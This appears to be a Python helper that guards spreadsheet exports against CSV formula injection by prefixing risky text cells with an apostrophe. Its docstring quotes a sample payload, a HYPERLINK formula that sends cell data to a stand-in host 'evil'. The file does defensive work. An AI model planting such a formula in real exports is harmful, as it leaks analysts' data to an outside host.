"""Cells that a spreadsheet must not run (CSV/XLSX formula injection, OWASP "CSV Injection").

Excel and LibreOffice treat a cell that starts with = + - @ (or a tab or carriage return before one) as a
formula, so a staff ID typed at the login form or a venue name such as `=HYPERLINK("http://evil/?"&A1)` would
run on the analyst's PC when an export is opened. Every export passes its text cells through `neutralise()`,
which puts an apostrophe in front (shown by neither program, and the text stays readable); numbers stay
numbers."""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

T = TypeVar("T")


def neutralise(value: T) -> T | str:
    """VALUE, with an apostrophe in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
